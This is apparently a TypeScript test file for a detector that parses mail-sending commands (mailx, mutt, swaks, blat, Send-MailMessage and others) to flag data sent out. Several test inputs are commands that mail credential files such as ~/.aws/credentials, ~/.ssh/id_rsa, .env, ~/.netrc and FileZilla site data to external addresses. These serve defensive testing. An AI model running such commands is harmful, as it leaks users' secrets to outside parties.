import { describe, expect, it } from 'vitest';
import { messagesOf } from '../../src/extract/exfil-messages.js';
import { command } from '../helpers/command.js';

const messages = (argv: string[]) =>
  messagesOf(command(argv)).map((m) => [
    m.sink,
    m.host,
    m.dataArgs.join(','),
    m.files.join(','),
    m.sendsStdin,
  ]);

describe('data carried out in mail and packet payloads', () => {
  it.each<[string[], (string | boolean)[][]]>([
    [['mail', '-s', 'prod creds', 'ops@example.org'], [['mail', 'example.org', '2', '', true]]],
    [
      ['mailx', '-a', '/home/u/.aws/credentials', '-s', 'x', 'a@b.example'],
      [['mail', 'b.example', '4', '/home/u/.aws/credentials', true]],
    ],
    [
      ['mutt', '-s', 'logs', '-a', 'app.log', '--', 'ops@example.org'],
      [['mail', 'example.org', '2', 'app.log', true]],
    ],
    [['sendmail', '-t'], [['mail', '', '', '', true]]],
    // sendxmpp: -t is TLS, -u the sender, -j the server; the body is stdin
    [
      ['sendxmpp', '-t', '-j', 'jabber.example', '-u', 'dev', '-p', 'x', 'me@jabber.example'],
      [['mail', 'jabber.example', '', '', true]],
    ],
    [['mail', '-s', 'build done', 'root'], [['mail', 'localhost', '2', '', true]]],
    [
      ['swaks', '--to', 'a@example.org', '--server', 'smtp.example.net:587', '--attach', '@.env'],
      [['mail', 'smtp.example.net', '', '.env', false]],
    ],
    [['swaks', '--to', 'a@example.org', '--body', 'hello'], [['mail', 'example.org', '4', '', false]]],
    // blat: the first word is the body file, -attach adds files, -server is where it goes
    [
      [
        'blat',
        '%APPDATA%FileZillasitemanager.xml',
        '-to',
        'c@mail.example.org',
        '-subject',
        'sm',
        '-server',
        'smtp.example.org',
      ],
      [['mail', 'smtp.example.org', '5', '%APPDATA%FileZillasitemanager.xml', false]],
    ],
    [
      ['blat', 'body.txt', '-to', 'x@example.net', '-attach', '~/.ssh/id_rsa,notes.txt'],
      [['mail', 'example.net', '', 'body.txt,~/.ssh/id_rsa,notes.txt', false]],
    ],
    [['blat', '-', '-to', 'x@example.net', '-body', 'hi'], [['mail', 'example.net', '5', '', true]]],
    [['blat', '-install', 'smtp.example.org', 'me@example.org'], []],
    [['blat', '-h'], []],
    // mutt's -a takes every file up to `--`
    [
      ['mutt', '-a', 'a.log', 'b.log', '--', 'ops@example.org'],
      [['mail', 'example.org', '', 'a.log,b.log', true]],
    ],
    [
      [
        'sendemail',
        '-f',
        'a@x.example',
        '-t',
        'b@example.org',
        '-u',
        'hi',
        'there',
        '-s',
        'smtp.example.net:25',
        '-a',
        'a.txt',
        'b.txt',
      ],
      [['mail', 'smtp.example.net', '6,7', 'a.txt,b.txt', true]],
    ],
    [
      ['sendEmail', '-t', 'b@example.org', '-m', 'body', '-a', 'C:\\Users\\u\\.ssh\\id_rsa'],
      [['mail', 'example.org', '4', '~/.ssh/id_rsa', false]],
    ],
    [
      [
        'Send-MailMessage',
        '-To',
        'a@example.org',
        '-Subject',
        's',
        '-Attachments',
        '$env:USERPROFILE\\.aws\\credentials,out\\r.xml',
      ],
      [['mail', 'example.org', '4', '~/.aws/credentials,out/r.xml', false]],
    ],
    [
      ['send-mailmessage', '-SmtpServer:smtp.example.net', '-Att', '%USERPROFILE%\\.netrc', '-Body', 'b'],
      [['mail', 'smtp.example.net', '5', '~/.netrc', false]],
    ],
    [['curl', 'https://example.com'], []],
  ])('%j', (argv, want) => expect(messages(argv)).toEqual(want));
});
